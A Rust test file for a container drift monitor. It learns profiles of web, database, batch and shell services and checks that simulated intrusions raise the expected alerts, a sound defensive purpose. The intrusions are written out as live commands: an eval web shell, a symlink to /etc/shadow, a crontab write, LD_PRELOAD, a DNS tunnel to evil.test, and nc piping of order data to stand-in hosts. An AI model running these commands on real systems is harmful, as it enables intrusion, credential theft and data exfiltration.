//! Profiles of ordinary services: a day of ordinary life drifts nowhere, and of each intrusion one
//! alert says what was expected instead.

mod day;
mod place;
mod policy;

use std::fs;
use std::path::Path;

use serde_json::Value;

use self::place::Service;
use super::Case;
use super::recording::Recorder;
use crate::daemon::is_alert;
use crate::lab::Stage;

pub(super) const CASES: &[Case] = &[
    Case::new("expectations::of_a_web_server", |stage| show(stage, &WEB)),
    Case::new("expectations::of_a_database", |stage| show(stage, &DATABASE)),
    Case::new("expectations::of_a_batch_job", |stage| show(stage, &BATCH)),
    Case::new("expectations::of_an_image_with_a_shell", |stage| show(stage, &SHELL)),
    Case::with(
        &["ip", "iptables-restore", "nsenter"],
        "expectations::exported_policy_lets_the_load_and_nothing_else",
        policy::enforced,
    ),
];

/// What is learned of, and what is done to it.
struct Shown {
    /// Of the image.
    name: &'static str,
    start: for<'s> fn(&Stage<'s>, &str) -> Service<'s>,
    /// A round of ordinary life, of that number.
    day: fn(&Service<'_>, usize),
    intrusions: &'static [Intrusion],
}

/// What is done to a container, and what is said of it.
struct Intrusion {
    name: &'static str,
    act: fn(&Service<'_>),
    /// In order: the kind of drift, what was found, and what was expected that is most like it.
    said: &'static [[&'static str; 3]],
}

const WEB: Shown = Shown {
    name: "web",
    start: |stage, image| Service::web(stage, image),
    day: day::of_web,
    intrusions: &[
        Intrusion {
            name: "web shell",
            act: |web| {
                let script =
                    "printf 'Content-Type: text/plain\\r\\n\\r\\n'; eval \"$QUERY_STRING\"";
                fs::write(web.volume().join("www/x.sh"), script).expect("bring a script");
                assert!(web.get("/x.sh?pwd").ends_with("/srv/www\n"), "it runs commands");
            },
            said: &[[
                "program",
                "/bin/dash (of /usr/sbin/lighttpd, user 0)",
                "/bin/cat (of /usr/sbin/lighttpd, user 0)",
            ]],
        },
        Intrusion {
            name: "credential read",
            act: |web| {
                let linked = web.volume().join("www/logo.svg");
                std::os::unix::fs::symlink("/etc/shadow", linked).expect("link the file");
                assert!(web.get("/logo.svg").contains("root:*"), "it gives the file out");
            },
            said: &[["secret read", "/etc/shadow", "<NA>"]],
        },
    ],
};

const DATABASE: Shown = Shown {
    name: "database",
    start: |stage, image| Service::database(stage, image),
    day: day::of_database,
    intrusions: &[
        Intrusion {
            name: "shell",
            act: |database| drop(database.exec(&["/bin/busybox", "sh", "-c", ":"])),
            said: &[[
                "program",
                "/bin/busybox (of outside, user 0)",
                "/usr/bin/redis-cli (of outside, user 0)",
            ]],
        },
        Intrusion {
            name: "new listener",
            act: |database| {
                assert_eq!(database.ask("CONFIG SET port 6380"), "+OK");
            },
            said: &[["listener", "tcp 6380", "tcp 6379"]],
        },
        Intrusion {
            name: "new destination",
            act: |database| {
                assert_eq!(database.ask("REPLICAOF 127.0.53.9 7777"), "+OK");
                // It tries again and again.
                std::thread::sleep(std::time::Duration::from_millis(2500));
            },
            said: &[["connection", "tcp 127.0.53.9:7777", "tcp 127.0.53.63:6379"]],
        },
    ],
};

const BATCH: Shown = Shown {
    name: "batch",
    start: |stage, image| Service::batch(stage, image),
    day: day::of_batch,
    intrusions: &[
        Intrusion {
            name: "dropped binary",
            act: |batch| {
                batch.order("d=$(mktemp -d); cp /usr/bin/id $d/part-7.csv; $d/part-7.csv");
            },
            said: &[[
                "program",
                "/tmp/tmp.{random}/part-7.csv (of /bin/dash, user 0)",
                "/usr/bin/",
            ]],
        },
        Intrusion {
            name: "dropped binary at a path of its own",
            act: |batch| batch.order("cp /usr/bin/id /var/x; /var/x"),
            said: &[
                ["file written", "/var/x", "/workload/out/"],
                ["program", "/var/x (of /bin/dash, user 0)", "/usr/bin/"],
            ],
        },
        Intrusion {
            name: "cron write",
            act: |batch| batch.order("echo '* * * * * root /tmp/x' >> /etc/crontab"),
            said: &[["file written", "/etc/crontab", "/"]],
        },
        Intrusion {
            name: "library preload",
            act: |batch| {
                let library = batch.volume().join("in/libx.so");
                let known = place::unpacked("lib/x86_64-linux-gnu/libm.so.6");
                fs::copy(known, library).expect("bring a library");
                batch.order("LD_PRELOAD=/workload/in/libx.so date > /dev/null");
            },
            said: &[["library preloaded", "/workload/in/libx.so", "<NA>"]],
        },
    ],
};

const SHELL: Shown = Shown {
    name: "shell",
    start: |stage, image| Service::shell(stage, image),
    day: day::of_shell,
    intrusions: &[
        Intrusion {
            name: "DNS tunnel",
            act: |shell| {
                shell.order(
                    "i=0; while [ $i -lt 40 ]; do i=$((i+1));\n\
                     d=$(echo $i $i $i | md5sum | cut -c 1-32)\n\
                     nslookup $d.t.evil.test 127.0.53.53 > /dev/null; done",
                );
            },
            said: &[["name", ".t.evil.test", ".shop.test"]],
        },
        Intrusion {
            name: "namespace escape attempt",
            act: |shell| shell.order("unshare -m true"),
            said: &[["system call", "unshare (by /bin/busybox)", "<NA>"]],
        },
        Intrusion {
            name: "miner",
            act: |shell| {
                shell.order(
                    "echo '{\"id\":1,\"method\":\"mining.subscribe\"}' | nc -w 2 127.0.53.8 3333",
                );
            },
            said: &[["connection", "tcp 127.0.53.8:3333", "tcp queue.shop.test:9000"]],
        },
        Intrusion {
            name: "miner that is a program of its own",
            act: |shell| {
                shell.order("cp /bin/busybox /data/nc; echo x | /data/nc -w 2 127.0.53.8 3333");
            },
            said: &[
                ["file written", "/data/nc", "/data/"],
                ["program", "/data/nc (of /bin/busybox, user 0)", "/bin/busybox (of "],
                ["connection", "tcp 127.0.53.8:3333", "tcp queue.shop.test:9000"],
            ],
        },
        Intrusion {
            name: "data exfiltration",
            act: |shell| shell.order("gzip -c /data/orders-* | nc -w 2 127.0.53.9 8443"),
            said: &[["connection", "tcp 127.0.53.9:8443", "tcp queue.shop.test:9000"]],
        },
    ],
};

/// Rounds of ordinary life from which it is learned, in each of two containers.
const LEARNED: usize = 4;
/// Rounds of another day.
const REPLAYED: usize = 8;

/// No rule of the user's fires.
const QUIET: &str = "- rule: Quiet\n  desc: x\n  condition: evt.type = execve and proc.name = \
                     no-such-program\n  output: x\n  priority: ERROR\n";

fn show(stage: &Stage<'_>, shown: &Shown) {
    if !place::is_unpacked() {
        return;
    }
    let dir = stage.dir(shown.name);
    let image = format!("localhost/{}:1", shown.name);
    stage.containerd().import(&image, shown.name);
    let record = |name: &str, live: &dyn Fn(&Service<'_>), containers: usize| {
        let file = dir.join(name).with_extension("rec");
        let recorder = Recorder::start(stage, &file, &[]);
        for _ in 0..containers {
            live(&(shown.start)(stage, &image));
        }
        recorder.end().assert(0, &["recorded", "0 records were lost"]);
        file
    };
    let rounds = |count: usize| {
        move |service: &Service<'_>| (0..count).for_each(|round| (shown.day)(service, round))
    };
    let learned = record("learned", &rounds(LEARNED), 2);
    let profile = approved(stage, &dir, &learned, &image);
    let rules = dir.join("rules.yaml");
    fs::write(&rules, QUIET).expect("write the rules");
    let drift = |recording: &Path| drift(stage, recording, &profile, &rules);

    let ordinary = record("ordinary", &rounds(REPLAYED), 1);
    assert_eq!(drift(&ordinary), Vec::<String>::new(), "a day of ordinary life");
    eprintln!("\n{:8} | {REPLAYED} rounds of another day | no alert", shown.name);
    let mut wrong = Vec::new();
    for (number, intrusion) in shown.intrusions.iter().enumerate() {
        let live = |service: &Service<'_>| {
            (shown.day)(service, 0);
            (intrusion.act)(service);
        };
        let recording = record(&format!("intrusion-{number}"), &live, 1);
        let said = drift(&recording);
        for alert in &said {
            let (text, _) = alert.split_once(" profile=").unwrap_or((alert, ""));
            eprintln!("{:8} | {} | {text})", shown.name, intrusion.name);
        }
        if !intrusion.is_told_by(&said) {
            wrong.push(format!("{}: {said:#?}", intrusion.name));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

impl Intrusion {
    /// Whether these alerts are all that is to be said of it.
    fn is_told_by(&self, said: &[String]) -> bool {
        let is_of = |text: &String, [kind, found, expected]: &[&str; 3]| {
            let part = |from: &str, to: &str| {
                let (_, rest) = text.split_once(from)?;
                Some(rest.split_once(to)?.0.to_owned())
            };
            let is_like = |part: Option<String>, like: &str| match part {
                Some(part) if like.starts_with('.') => part.ends_with(like),
                part => part.is_some_and(|part| part.starts_with(like)),
            };
            text.starts_with(&format!("Unexpected {kind} "))
                && is_like(part("(found=", " expected="), found)
                && is_like(part(" expected=", " profile="), expected)
        };
        said.len() == self.said.len()
            && said.iter().zip(self.said).all(|(it, want)| is_of(it, want))
    }
}

/// The profile of an image that is learned from a recording, which somebody has approved.
fn approved(stage: &Stage<'_>, dir: &Path, recording: &Path, image: &str) -> String {
    let profiles = dir.join("profiles");
    let plain = |path: &Path| path.to_str().expect("a plain path").to_owned();
    let (recording, out) = (plain(recording), plain(&profiles));
    let learn = ["profile", "learn", "--from", &recording, "--image", image, "-o", &out];
    stage.runmon(learn).assert(0, &[]);
    let files: Vec<_> = fs::read_dir(&profiles).expect("profiles").flatten().collect();
    let [file] = &files[..] else { panic!("one image, one profile: {files:?}") };
    let file = plain(&file.path());
    let approve = ["profile", "approve", &file, "--by", "shop team", "--incomplete"];
    stage.runmon(approve).assert(0, &[]);
    file
}

/// What the replay of a recording says is not expected; repeats are rolled up, as always.
fn drift(stage: &Stage<'_>, recording: &Path, profile: &str, rules: &Path) -> Vec<String> {
    let args = ["replay".as_ref(), recording.as_os_str(), "--json".as_ref()];
    let with = ["--profiles".as_ref(), profile.as_ref(), "--rules".as_ref(), rules.as_os_str()];
    let ran = stage.runmon(args.into_iter().chain(with));
    ran.assert(0, &[]);
    let documents = ran.stdout.lines().map(|line| serde_json::from_str(line).expect("JSON"));
    let of_drift = documents.filter(|it: &Value| {
        let name = it["rule"]["name"].as_str();
        is_alert(it) && name.is_some_and(|name| name.starts_with("Unexpected"))
    });
    of_drift.filter_map(|it| it["event"]["reason"].as_str().map(str::to_owned)).collect()
}
